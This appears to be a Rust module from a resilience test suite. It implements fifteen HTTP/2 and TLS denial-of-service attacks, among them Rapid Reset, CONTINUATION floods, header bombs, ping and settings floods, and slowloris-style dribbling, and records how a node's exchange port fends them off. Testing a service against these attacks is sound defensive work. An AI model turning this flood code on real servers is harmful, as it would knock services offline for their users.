//! What a turned member, or somebody who is none, does to a node's exchange port (threats, rows 52 to 59).
//!
//! The way in is [`Attack::press`]: one attacker on one connection at a time, which comes back when it is put out.

#![allow(dead_code, reason = "each user takes a part of it")]

use std::{collections::BTreeMap, io, net::SocketAddr, sync::Arc, time::Duration};

use tokio::time::{Instant, sleep, sleep_until};

use super::raw::{
    self, CONTINUATION, DATA, END_HEADERS, Ears, HEADERS, Heard, PING, PREFACE, PRIORITY,
    RST_STREAM, Raw, SETTINGS, WINDOW_UPDATE, frame,
};

/// Whom, and with which certificate.
pub(crate) struct Target {
    pub(crate) at: SocketAddr,
    pub(crate) tls: Arc<rustls::ClientConfig>,
}

/// One way to abuse a connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Attack {
    /// 52: calls that are reset as soon as they are begun (CVE-2023-44487).
    RapidReset,
    /// 53: a header block without end (CVE-2024-27316 and its kin).
    Continuation,
    /// 53: a small header block that is large when it is read.
    Bomb,
    /// 54: a message of one byte after another.
    TinyData,
    /// 54: DATA that carries nothing.
    EmptyData,
    /// 54: settings, each of which must be acknowledged (CVE-2019-9515).
    Settings,
    /// 54: pings, each of which must be answered (CVE-2019-9512).
    Pings,
    /// 54: pings whose answers nobody reads.
    DeafPings,
    /// 54: priorities and windows, which ask for nothing.
    Trifles,
    /// 55: TCP and no word.
    SilentTcp,
    /// 55: a ClientHello, byte after byte.
    Dribble,
    /// 56: TLS, and half a header block.
    HalfHeaders,
    /// 56: TLS, and half a preface.
    HalfPreface,
    /// 56: calls that are begun and never go on.
    IdleCalls,
    /// 58, in part: handshakes that end in nothing, as fast as they go.
    Handshakes,
}

/// What an attack came to.
#[derive(Debug, Clone, Default)]
pub(crate) struct Spoils {
    /// Connections opened.
    pub(crate) connections: u64,
    /// Turned away at the door, or before.
    pub(crate) turned_away: u64,
    /// Put out with a GOAWAY, by its error code.
    pub(crate) given_up: BTreeMap<u32, u64>,
    /// Put out without a word.
    pub(crate) cut: u64,
    /// Writes of many frames.
    pub(crate) writes: u64,
}

impl Spoils {
    /// Sums up.
    pub(crate) fn add(&mut self, other: &Self) {
        self.connections += other.connections;
        self.turned_away += other.turned_away;
        self.cut += other.cut;
        self.writes += other.writes;
        for (code, count) in &other.given_up {
            *self.given_up.entry(*code).or_default() += count;
        }
    }

    /// In a few words.
    pub(crate) fn told(&self) -> String {
        let mut words = format!("{} opened", self.connections);
        for (count, what) in [(self.turned_away, "turned away"), (self.cut, "cut")] {
            if count > 0 {
                words.push_str(&format!(", {count} {what}"));
            }
        }
        for (code, count) in &self.given_up {
            words.push_str(&format!(", {count} GOAWAY {code}"));
        }
        words
    }

    fn ended(&mut self, heard: Heard) {
        match heard {
            Heard {
                given_up: Some(code),
                ..
            } => *self.given_up.entry(code).or_default() += 1,
            Heard { closed: true, .. } => self.cut += 1,
            Heard { .. } => {}
        }
    }
}

impl Attack {
    /// All of them.
    pub(crate) const ALL: [Self; 15] = [
        Self::RapidReset,
        Self::Continuation,
        Self::Bomb,
        Self::TinyData,
        Self::EmptyData,
        Self::Settings,
        Self::Pings,
        Self::DeafPings,
        Self::Trifles,
        Self::SilentTcp,
        Self::Dribble,
        Self::HalfHeaders,
        Self::HalfPreface,
        Self::IdleCalls,
        Self::Handshakes,
    ];

    /// Its row in the threat matrix.
    pub(crate) fn row(self) -> u32 {
        match self {
            Self::RapidReset => 52,
            Self::Continuation | Self::Bomb => 53,
            Self::TinyData
            | Self::EmptyData
            | Self::Settings
            | Self::Pings
            | Self::DeafPings
            | Self::Trifles => 54,
            Self::SilentTcp | Self::Dribble => 55,
            Self::HalfHeaders | Self::HalfPreface | Self::IdleCalls => 56,
            Self::Handshakes => 58,
        }
    }

    /// Attacks until then, on one connection at a time.
    pub(crate) async fn press(self, target: &Target, number: usize, until: Instant) -> Spoils {
        let mut spoils = Spoils::default();
        while Instant::now() < until {
            spoils.connections += 1;
            let once = self.once(target, number, until, &mut spoils).await;
            if once.is_err() {
                spoils.turned_away += 1;
                // Nobody would knock faster than that for long.
                sleep(Duration::from_millis(20)).await;
            }
        }
        spoils
    }

    async fn once(
        self,
        target: &Target,
        number: usize,
        until: Instant,
        spoils: &mut Spoils,
    ) -> io::Result<()> {
        match self {
            Self::SilentTcp | Self::Dribble => {
                return self.without_tls(target, number, until).await;
            }
            Self::Handshakes => {
                return Raw::open(target.at, Arc::clone(&target.tls), Ears::Open)
                    .await
                    .map(drop);
            }
            _ => {}
        }
        let ears = match self {
            Self::DeafPings => Ears::Shut,
            _ => Ears::Open,
        };
        let (at, tls) = (target.at, Arc::clone(&target.tls));
        let mut raw = match self {
            Self::HalfPreface => Raw::open(at, tls, ears).await?,
            _ => Raw::greeted(at, tls, ears).await?,
        };
        spoils.writes += self.frames(&mut raw, until).await?;
        let left = until.saturating_duration_since(Instant::now());
        spoils.ended(raw.closed_within(left.min(Duration::from_secs(1))).await);
        Ok(())
    }

    /// The frames of the attack; tells how many writes of them were taken.
    async fn frames(self, raw: &mut Raw, until: Instant) -> io::Result<u64> {
        let same = |bytes: Vec<u8>| move |_: &mut Raw| bytes.clone();
        match self {
            Self::RapidReset => Ok(raw
                .repeat(until, |raw| {
                    (0..100).flat_map(|_| reset_at_once(raw)).collect()
                })
                .await),
            Self::Continuation => {
                raw.write(&frame(HEADERS, 0, 1, &raw::call())).await?;
                // A name without value: harmless, and never the last.
                let more = frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y'].repeat(200));
                Ok(raw.repeat(until, same(more)).await)
            }
            Self::Bomb => Ok(raw
                .repeat(until, |raw| {
                    let stream = raw.next_stream();
                    frame(HEADERS, END_HEADERS, stream, &raw::bomb())
                })
                .await),
            Self::TinyData => {
                let message = [0, 0, 0x1f, 0xff, 0xff];
                raw.write(&[begun(1), frame(DATA, 0, 1, &message)].concat())
                    .await?;
                let byte = frame(DATA, 0, 1, &[0]).repeat(1000);
                Ok(raw.repeat(until, same(byte)).await)
            }
            Self::EmptyData => {
                raw.write(&begun(1)).await?;
                let none = frame(DATA, 0, 1, &[]).repeat(1000);
                Ok(raw.repeat(until, same(none)).await)
            }
            Self::Settings => {
                let settings = frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(500);
                Ok(raw.repeat(until, same(settings)).await)
            }
            Self::Pings | Self::DeafPings => {
                let pings = frame(PING, 0, 0, &[7; 8]).repeat(500);
                Ok(raw.repeat(until, same(pings)).await)
            }
            Self::Trifles => {
                raw.write(&begun(1)).await?;
                let trifles = [
                    frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
                    frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
                ];
                Ok(raw.repeat(until, same(trifles.concat().repeat(500))).await)
            }
            Self::HalfHeaders => {
                raw.write(&frame(HEADERS, 0, 1, &raw::call())).await?;
                Ok(stay(raw, until).await)
            }
            Self::HalfPreface => {
                raw.write(PREFACE.get(..10).unwrap_or_default()).await?;
                Ok(stay(raw, until).await)
            }
            Self::IdleCalls => {
                for _ in 0..8 {
                    let stream = raw.next_stream();
                    raw.write(&begun(stream)).await?;
                }
                Ok(stay(raw, until).await)
            }
            Self::SilentTcp | Self::Dribble | Self::Handshakes => Ok(0),
        }
    }

    async fn without_tls(self, target: &Target, number: usize, until: Instant) -> io::Result<()> {
        // As from many places: each attacker has an address of its own.
        let from = [127, 0, 1, u8::try_from(number % 250).unwrap_or(0) + 1];
        let held = raw::silent(target.at, from, 100, &[]).await;
        let again = (Instant::now() + Duration::from_secs(1)).min(until);
        if self == Self::Dribble {
            dribble(held, again).await;
        } else {
            sleep_until(again).await;
        }
        Ok(())
    }
}

/// The first bytes of a TLS record, one at a time.
async fn dribble(mut held: Vec<tokio::net::TcpStream>, until: Instant) {
    use tokio::io::AsyncWriteExt as _;
    for byte in [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3] {
        for tcp in &mut held {
            // One that was put out stays out.
            let _ = tcp.write_all(&[byte]).await;
        }
        if Instant::now() >= until {
            return;
        }
        sleep(Duration::from_millis(90)).await;
    }
}

async fn stay(raw: &mut Raw, until: Instant) -> u64 {
    let left = until.saturating_duration_since(Instant::now());
    raw.closed_within(left).await;
    1
}

/// A call that is begun in order.
pub(crate) fn begun(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &raw::call())
}

fn reset_at_once(raw: &mut Raw) -> Vec<u8> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let stream = raw.next_stream();
    [begun(stream), frame(RST_STREAM, 0, stream, &CANCEL)].concat()
}
